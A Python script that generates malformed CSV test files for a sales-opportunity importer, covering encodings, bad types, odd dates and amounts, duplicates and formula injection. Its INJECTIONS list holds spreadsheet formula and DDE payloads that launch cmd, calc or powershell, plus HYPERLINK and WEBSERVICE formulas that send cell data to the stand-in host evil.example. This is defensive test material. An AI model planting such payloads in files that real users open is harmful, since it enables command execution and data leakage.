"""Writes the bad-input corpus next to this file (`python tests/data/bad_inputs/generate.py`).

Small files are checked in; the 1,048,577-row file is made at test time by `big_csv()`.
`MANIFEST` says how each file is read (encoding) and what a run with it must end in.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEADER = ["opportunity_id", "name", "account_name", "owner", "team", "product", "stage", "amount", "currency",
          "created_date", "close_date", "last_activity_date", "next_step_date", "deal_type", "lead_source", "budget"]
TEXT_FIELDS = ["name", "account_name", "owner", "team", "product", "lead_source"]

# Formula-injection payloads: Excel and LibreOffice start a formula (or DDE) with these.
INJECTIONS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "@cmd|'/c notepad'!_xlbgnm.A1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C powershell'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example\")",
]

# file -> (encoding in the config, expected run outcome: "ok" = exit 0 with rejects / notes, else a fragment
# of the one error line with exit 1)
MANIFEST: dict[str, tuple[str, str]] = {
    "bom_utf8_crlf.csv": ("utf-8", "ok"),
    "utf16_bom.csv": ("utf-16", "ok"),
    "cp1252.csv": ("cp1252", "ok"),
    "mixed_line_endings.csv": ("utf-8", "ok"),
    "quoted_newlines.csv": ("utf-8", "ok"),
    "extra_columns.csv": ("utf-8", "ok"),
    "wrong_types.csv": ("utf-8", "ok"),
    "dates_out_of_range.csv": ("utf-8", "ok"),
    "amounts.csv": ("utf-8", "ok"),
    "unknown_stages_currencies.csv": ("utf-8", "ok"),
    "duplicate_ids.csv": ("utf-8", "ok"),
    "injection.csv": ("utf-8", "ok"),
    "empty.csv": ("utf-8", "ok"),
    "header_only.csv": ("utf-8", "ok"),
    "blank_lines_only.csv": ("utf-8", "ok"),
    "duplicated_unmapped_headers.csv": ("utf-8", "ok"),
    "wrong_encoding.csv": ("utf-8", "is not valid utf-8"),
    "binary_garbage.csv": ("utf-8", "is not valid utf-8"),
    "missing_headers.csv": ("utf-8", "no column for stage"),
    "duplicated_headers.csv": ("utf-8", "more than one column maps to the same field"),
    "nul_bytes.csv": ("utf-8", "ok"),
}


def row(i: int, **over: str) -> list[str]:
    base = {"opportunity_id": f"D-{i:04d}", "name": f"Deal {i}", "account_name": f"Account {i}", "owner": "Ann Lee",
            "team": "West", "product": "Platform", "stage": "Proposal", "amount": "1000", "currency": "USD",
            "created_date": "2026-01-05", "close_date": "2026-12-15", "last_activity_date": "2026-11-20",
            "next_step_date": "2026-12-01", "deal_type": "new", "lead_source": "Web", "budget": "yes"}
    base.update(over)
    return [base[h] for h in HEADER]


def table(rows: list[list[str]], header: list[str] = HEADER, newline: str = "\r\n") -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator=newline)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def corpus() -> dict[str, bytes]:
    good = [row(i) for i in range(1, 4)]
    files: dict[str, bytes] = {}
    files["bom_utf8_crlf.csv"] = b"\xef\xbb\xbf" + table(good, newline="\r\n").encode()
    files["utf16_bom.csv"] = table([row(1, name="Café Müller"), row(2, owner="Zoë")]).encode("utf-16")
    files["cp1252.csv"] = table([row(1, name="Café € deal"), row(2, account_name="Señor Ñandú")]).encode("cp1252")
    lines = table(good).splitlines()
    files["mixed_line_endings.csv"] = (lines[0] + "\r\n" + lines[1] + "\n" + lines[2] + "\r" + lines[3] + "\r\n").encode()
    files["quoted_newlines.csv"] = table([row(1, name="two\nlines"), row(2, name='say "hi",\r\nthen go'),
                                          row(3, account_name="a\rb")]).encode()
    extra_header = [*HEADER, "notes", "Unmapped Column"]
    files["extra_columns.csv"] = (table([[*row(1), "n", "x"], [*row(2), "n", "x"]], header=extra_header)
                                  + ",".join(row(3)) + ",n,x,surplus,more\n").encode()
    wrong = {"amount": "abc", "currency": "12", "created_date": "yesterday", "close_date": "2026-13-45",
             "last_activity_date": "31/31/2026", "next_step_date": "soon", "deal_type": "???", "budget": "maybe",
             "stage": "42", "opportunity_id": ""}
    files["wrong_types.csv"] = table([row(10 + i, **{k: v}) for i, (k, v) in enumerate(wrong.items())]
                                     + [row(30, amount="1e3x", created_date="2026-02-30")]).encode()
    dates = ["0001-01-01", "9999-12-31", "1899-12-31", "1677-09-21", "2262-04-12", "1900-01-00", "45000",
             "2026-02-29", "2024-02-29", "10000-01-01", "-2026-01-01"]
    files["dates_out_of_range.csv"] = table([row(40 + i, created_date=d) for i, d in enumerate(dates)]
                                            + [row(60 + i, close_date=d) for i, d in enumerate(dates)]).encode()
    amounts = ["-1", "-0", "0", "1e308", "1e309", "1e20", "inf", "-inf", "NaN", "1,000,000,000,000,000,000",
               "99999999999999999999999999", "0.000000001", "12000,50", "(500)", "$ -5"]
    files["amounts.csv"] = table([row(80 + i, amount=a) for i, a in enumerate(amounts)]).encode()
    files["unknown_stages_currencies.csv"] = table([row(100, stage="Negotiation??"), row(101, stage=""),
                                                    row(102, currency="XYZ"), row(103, currency="usd"),
                                                    row(104, currency="€"), row(105, stage="proposal")]).encode()
    files["duplicate_ids.csv"] = table([row(1), row(1, amount="5"), row(2), row(2), row(3, opportunity_id=" D-0003 ")]
                                       ).encode()
    inj = []
    for i, payload in enumerate(INJECTIONS):
        inj.append(row(200 + i, **{f: payload for f in TEXT_FIELDS}))
    inj.append(row(300, opportunity_id="=1+1"))
    inj.append(row(301, stage="=1+1"))  # rejected: the reject keeps the raw text
    files["injection.csv"] = table(inj).encode()
    files["empty.csv"] = b""
    files["header_only.csv"] = (",".join(HEADER) + "\n").encode()
    files["blank_lines_only.csv"] = b"\n\n  \n\r\n"
    files["duplicated_unmapped_headers.csv"] = table([[*row(1), "a", "b"]], header=[*HEADER, "notes", "notes"]).encode()
    files["wrong_encoding.csv"] = table([row(1, name="Café €")]).encode("cp1252")
    files["binary_garbage.csv"] = bytes(range(256)) * 4
    files["missing_headers.csv"] = table([[c for h, c in zip(HEADER, row(1), strict=True) if h != "stage"]],
                                         header=[h for h in HEADER if h != "stage"]).encode()
    files["duplicated_headers.csv"] = table([[*row(1), "Won"]], header=[*HEADER, "Stage"]).encode()
    files["nul_bytes.csv"] = table([row(1, name="nul\x00inside"), row(2)]).encode()
    return files


def big_csv(path: Path, rows: int) -> None:
    """`rows` valid deals (plus the header), written fast."""
    with path.open("w", newline="") as f:
        f.write("opportunity_id,stage,amount,created_date\n")
        stages = ("Lead generation", "Qualification", "Proposal", "Won", "Lost")
        chunk = 100_000
        for start in range(0, rows, chunk):
            f.write("".join(f"B{i},{stages[i % 5]},{i % 997},2026-0{1 + i % 9}-1{i % 10}\n"
                            for i in range(start, min(rows, start + chunk))))


def main() -> None:
    for name, data in corpus().items():
        (HERE / name).write_bytes(data)
    print(f"{len(MANIFEST)} files in {HERE}")


if __name__ == "__main__":
    main()
